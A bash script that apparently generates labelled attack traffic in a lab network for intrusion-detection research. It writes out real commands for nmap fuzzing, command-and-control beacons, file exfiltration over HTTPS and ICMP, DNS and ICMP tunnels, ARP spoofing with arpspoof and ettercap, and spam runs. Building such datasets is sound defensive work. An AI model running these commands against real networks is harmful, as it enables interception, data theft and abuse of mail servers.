# shellcheck shell=bash
# Attacks from within, or that get there: fuzzing, deliveries, worms, back doors, data sent out,
# tunnels, ARP, ciphers, spam. As in attacks.sh, NAME HOST SERVER; where the other end is a site,
# SERVER is its name. Real tools where Debian has them; strike.py has no code that does harm in it.
# Sourced by scenarios.sh.
# shellcheck disable=SC2154 # addr4, addr6, servers, server_net, users, odd: net.sh

# staged CATEGORY HOST SERVER COMMAND...: an attack that is a function of ours.
staged() {
	local category=$1 host=$2 server=$3 start=$EPOCHREALTIME
	shift 3
	"$@"
	sleep 0.5
	truth "$start" "${late:-1}" "${addr4[$host]}" "${addr4[$server]}" "$category"
}

# end JOB: of `on ... &`, with what it runs.
end() {
	pkill -P "$1"
	wait "$1"
} 2>/dev/null

# at_site SECONDS COMMAND...: run a command where the servers and sites are.
at_site() { on "$1" servers "${@:2}"; }

# ---- Fuzzers ----

fuzz_tcp() {
	local ports=(21 22 25 80 143 1883 6379)
	staged Fuzzers "$1" "$2" strike "$1" 20 fuzz tcp "${addr4[$2]}" "${ports[RANDOM % 7]}" \
		"$((RANDOM % 12 + 5))" "0.$((RANDOM % 3))$((RANDOM % 9 + 1))"
}

fuzz_udp() {
	local ports=(53 123 161)
	staged Fuzzers "$1" "$2" strike "$1" 20 fuzz udp "${addr4[$2]}" "${ports[RANDOM % 3]}" \
		"$((RANDOM % 12 + 5))" "0.$((RANDOM % 2))$((RANDOM % 9 + 1))"
}

fuzz_dns() {
	attack4 Fuzzers "$1" "$2" 15 nmap -n -Pn -sU -p 53 --script dns-fuzz \
		--script-args "dns-fuzz.timelimit=$((RANDOM % 10 + 3))s" "${addr4[$2]}"
}

# Every field of a form gets what it does not expect.
fuzz_form() {
	local from=$((RANDOM % 2000 + 50))
	attack4 Fuzzers "$1" "$2" 20 nmap -n -Pn -p 80 --script http-form-fuzzer --script-args \
		"http-form-fuzzer.targets={1={path=/form.html}},http-form-fuzzer.minlength=$from,http-form-fuzzer.maxlength=$((from + RANDOM % 400 + 50))" \
		"${addr4[$2]}"
}

# ---- Exploits, Shellcode, Worms ----

# draw_weak: $port gets one of the weak service's.
draw_weak() {
	local weak=(139 5000 7001 8009 "${odd[3]}")
	port=${weak[RANDOM % 5]}
}

# deliveries HOST SERVER PROTOCOL SIZE WHAT N: up to N deliveries of about SIZE bytes, the first ones in
# vain.
deliveries() {
	local port=1434 n size
	[[ $3 = udp ]] || draw_weak
	for ((n = RANDOM % $6; n >= 0; n--)); do
		size=$((RANDOM % $4 + $4 / 2))
		strike "$1" 12 deliver "$3" "${addr4[$2]}" "$port" "$size" \
			"$( ((n)) && echo answer || echo "$5")" "$((RANDOM % 8 + 1))" "0.$((RANDOM % 9))"
		rest 0 20 || return
	done
}

exploit_crash() { staged Exploits "$1" "$2" deliveries "$1" "$2" tcp $((RANDOM % 30000 + 600)) crash 5; }
exploit_answer() { staged Exploits "$1" "$2" deliveries "$1" "$2" tcp $((RANDOM % 6000 + 300)) answer 6; }
exploit_back() { staged Exploits "$1" "$2" deliveries "$1" "$2" tcp $((RANDOM % 20000 + 500)) back 3; }
exploit_bind() { staged Exploits "$1" "$2" deliveries "$1" "$2" tcp $((RANDOM % 20000 + 500)) bind 3; }

# Little more than the code that opens the way.
shellcode_tcp() {
	staged Shellcode "$1" "$2" deliveries "$1" "$2" tcp $((RANDOM % 500 + 60)) \
		"$( ((RANDOM % 2)) && echo back || echo bind)" 2
}

shellcode_udp() {
	staged Shellcode "$1" "$2" deliveries "$1" "$2" udp $((RANDOM % 500 + 60)) \
		"$( ((RANDOM % 2)) && echo back || echo bind)" 2
}

worm() {
	attack_net Worms "$1" python3 -B "$range_home/strike.py" "$RANDOM" worm "$2" "$3" "$4" \
		"$((RANDOM % 80 + 10))" "$((RANDOM % 8 + 6))" "$server_net"
}

worm_tcp() {
	local port
	draw_weak
	worm "$1" tcp "$port" $((RANDOM % 120000 + 5000))
}

worm_udp() { worm "$1" udp 1434 $((RANDOM % 600 + 200)); }

# ---- Backdoor: in command of a host ----

# A shell that was opened some time ago, used now and then.
backdoor_shell() {
	local port
	draw_weak
	staged Backdoor "$1" "$2" strike "$1" 30 deliver tcp "${addr4[$2]}" "$port" 40 bind \
		"$((RANDOM % 12 + 4))" "$((RANDOM % 2)).$((RANDOM % 9 + 1))"
}

# every HOST N TENTHS COMMAND...: so often, with a little jitter.
every() {
	local n=$2 pause=$3
	shift 3
	for (( ; n > 0; n--)); do
		"$@"
		rest "$pause" $((pause + pause / 5 + 1)) || return
	done
}

ask_home() {
	fetch 5 "$1" -A "agent/$((RANDOM % 3))" "$2/app/task/$((RANDOM % 99))"
}

beacon_http() {
	local url=http://${addr4[$2]}
	((RANDOM % 2)) || url=https://${addr4[$2]}
	staged Backdoor "$1" "$2" every "$1" $((RANDOM % 12 + 8)) $((RANDOM % 18 + 4)) ask_home "$1" "$url"
}

ask_home_dns() {
	on 4 "$1" dig "@$2" +tries=1 +time=2 -t TXT "$(sha1sum <<<"$RANDOM" | head -c 16).$3.example"
}

# The names are asked of the site itself.
beacon_dns() {
	staged Backdoor "$1" "$2" every "$1" $((RANDOM % 15 + 8)) $((RANDOM % 16 + 4)) ask_home_dns "$1" \
		"${addr4[$2]}" "c$RANDOM"
}

beacon_tcp() {
	staged Backdoor "$1" "$2" strike "$1" 35 beacon "${addr4[$2]}" 4444 $((RANDOM % 15 + 12)) \
		"$((RANDOM % 2)).$((RANDOM % 9 + 1))" "$((RANDOM % 300 + 20))"
}

# ---- data sent out ----

send_out() {
	fetch 10 "$1" --data-binary "@$range_dir/www/$2" "$3/app/up/$RANDOM"
}

exfil_https() {
	local file=part/$((RANDOM % 30 + 1)).bin
	((RANDOM % 2)) || file=data/$((RANDOM % 4 + 1)).bin
	staged Backdoor "$1" "$2" every "$1" $((RANDOM % 15 + 5)) $((RANDOM % 12)) send_out "$1" "$file" \
		"https://${addr4[$2]}"
}

exfil_dns() {
	staged Backdoor "$1" "$2" strike "$1" 25 names "${addr4[$2]}" $((RANDOM % 12 + 6)) \
		"0.$((RANDOM % 3))$((RANDOM % 9 + 1))" "$((RANDOM % 150 + 40))"
}

exfil_icmp() {
	attack4 Backdoor "$1" "$2" $((RANDOM % 8 + 4)) hping3 -q -n --icmp -d "$((RANDOM % 1000 + 200))" \
		-E "$range_dir/www/data/2.bin" -i "u$((RANDOM * 5 + 10000))" "${addr4[$2]}"
}

# ---- tunnels: their other end is a site ----

# use_tunnel HOST CURL-OPTION...: some pages through it, the last argument is the beginning of a URL.
use_tunnel() {
	local host=$1 n
	shift
	for ((n = RANDOM % 8 + 3; n > 0; n--)); do
		fetch 6 "$host" "${@:1:$#-1}" "${*: -1}/part/$((RANDOM % 30 + 1)).bin" || break
		rest 1 15 || break
	done
}

# tunnelled HOST CLIENT-COMMAND... -- USE...: the client runs while the tunnel is used.
tunnelled() {
	local host=$1 client=() job
	shift
	while [[ $1 != -- ]]; do
		client+=("$1")
		shift
	done
	on 30 "$host" "${client[@]}" &
	job=$!
	sleep 2
	use_tunnel "$host" "${@:2}"
	end "$job"
}

tunnel_ssh() {
	local port=$((RANDOM % 9000 + 30000))
	staged Backdoor "$1" "$2" tunnelled "$1" ssh -N -n -i "$range_dir/key" "${ssh_options[@]}" \
		-D "$port" "${users[0]}@${addr4[$2]}" -- --socks5 "127.0.0.1:$port" "http://[::1]:80"
}

# far_end SECONDS COMMAND...: start the tunnel's other end; $far gets the job. Two of a kind at once
# would disturb each other: the second does without.
far_end() {
	mkdir "$range_dir/tunnel-$2" 2>/dev/null || return
	at_site "$@" &
	far=$!
	sleep 0.5
}

far_end_stop() {
	end "$far"
	rmdir "$range_dir/tunnel-$1"
}

tunnel_http() {
	local far port=$((RANDOM % 9000 + 30000))
	far_end 35 hts -w -F localhost:80 8888 || return
	staged Backdoor "$1" "$2" tunnelled "$1" bash -c "htc -F $port ${addr4[$2]}:8888 && sleep 25" -- \
		"http://127.0.0.1:$port"
	inside "$1" fuser -ks "$port/tcp"
	far_end_stop hts
}

tunnel_iodine() {
	local far kinds=(NULL TXT CNAME)
	far_end 40 iodined -f -c -P secret -l "${addr4[$2]}" 10.254.253.1/24 t.example || return
	staged Backdoor "$1" "$2" tunnelled "$1" iodine -f -r -m 900 -P secret -T "${kinds[RANDOM % 3]}" \
		"${addr4[$2]}" t.example -- "http://10.254.253.1"
	far_end_stop iodined
}

tunnel_dns2tcp() {
	local far port=$((RANDOM % 9000 + 30000))
	printf 'listen = %s\nport = 53\ndomain = t.example\nresources = web:127.0.0.1:80\n' \
		"${addr4[$2]}" >"$range_dir/dns2tcpd"
	far_end 40 dns2tcpd -F -f "$range_dir/dns2tcpd" || return
	staged Backdoor "$1" "$2" tunnelled "$1" dns2tcpc -z t.example -r web -l "$port" "${addr4[$2]}" -- \
		"http://127.0.0.1:$port"
	far_end_stop dns2tcpd
}

tunnel_icmp() {
	local far port=$((RANDOM % 9000 + 30000))
	far_end 40 ptunnel-ng -r127.0.0.1 -R80 || return
	staged Backdoor "$1" "$2" tunnelled "$1" ptunnel-ng -p"${addr4[$2]}" -l"$port" -r127.0.0.1 -R80 -- \
		"http://127.0.0.1:$port"
	far_end_stop ptunnel-ng
}

# ---- Generic: neighbours deceived, ciphers tried ----

# spoof HOST COMMAND...: the command gets a neighbour and the gateway appended, as its tool takes
# them. The attacker hands on what it gets, so that nobody notices.
spoof() {
	local host=$1 limit=$((RANDOM % 10 + 6)) net=${addr4[$1]%.*} name victim=h4 gateway
	shift
	for name in gw0 gw1 gw2; do
		[[ ${addr4[$name]%.*} != "$net" ]] || gateway=${addr4[$name]}
	done
	for name in "${!addr4[@]}"; do
		[[ $name != h* || $name = "$host" || ${addr4[$name]%.*} != "$net" ]] || victim=$name
	done
	inside "$host" sysctl -qw net.ipv4.ip_forward=1
	late=5 service=arp attack Generic "${addr4[$victim]}" "$gateway" "$limit" "$host" \
		"$@" "$gateway" "${addr4[$victim]}"
}

arp_spoof() { spoof "$1" arpspoof -i eth0 -t; }

arp_ettercap() {
	# shellcheck disable=SC2016 # expanded by the inner shell
	spoof "$1" bash -c 'exec ettercap -T -q -i eth0 -M arp "/$0//" "/$1//" </dev/null'
}

ciphers_sslscan() {
	attack4 Generic "$1" "$2" 20 sslscan --no-colour "${addr4[$2]}:443"
}

ciphers_nmap() {
	attack4 Generic "$1" "$2" 20 nmap -n -Pn -p "443,${odd[1]}" --script ssl-enum-ciphers "${addr4[$2]}"
}

# Session after session, each with a key of its own, as one who looks for a weak one needs them.
ciphers_oracle() {
	attack4 Generic "$1" "$2" 10 openssl s_time -connect "${addr4[$2]}:443" -new \
		-time "$((RANDOM % 4 + 2))" -www "/app/item/$RANDOM"
}

# ---- Analysis: spam ----

# mailing HOST TOOL: letters to many people at all servers, some of whom there are.
mailing() {
	local host=$1 n start=$EPOCHREALTIME to from name server
	for ((n = RANDOM % 40 + 20; n > 0; n--)); do
		server=${addr4[${servers[RANDOM % 4]}]}
		to=$(shuf -n 1 "$range_dir/words")@example
		from=offer$RANDOM@example
		if [[ $2 = swaks ]]; then
			on 8 "$host" swaks -n -S 3 --server "$server" --to "$to" --from "$from" --ehlo host.example \
				--header "Subject: $RANDOM" --body "$(head -c $((RANDOM % 3000 + 200)) /dev/urandom | base64)"
		else
			fetch 8 "$host" "smtp://$server/host.example" --mail-from "$from" --mail-rcpt "$to" \
				-T "$range_dir/www/form.html"
		fi
		rest 0 3 || break
	done
	sleep 0.5
	for name in "${servers[@]}"; do
		service=tcp/25 truth "$start" 1 "${addr4[$host]}" "${addr4[$name]}" Analysis
	done
}

spam_swaks() { mailing "$1" swaks; }
spam_curl() { mailing "$1" curl; }
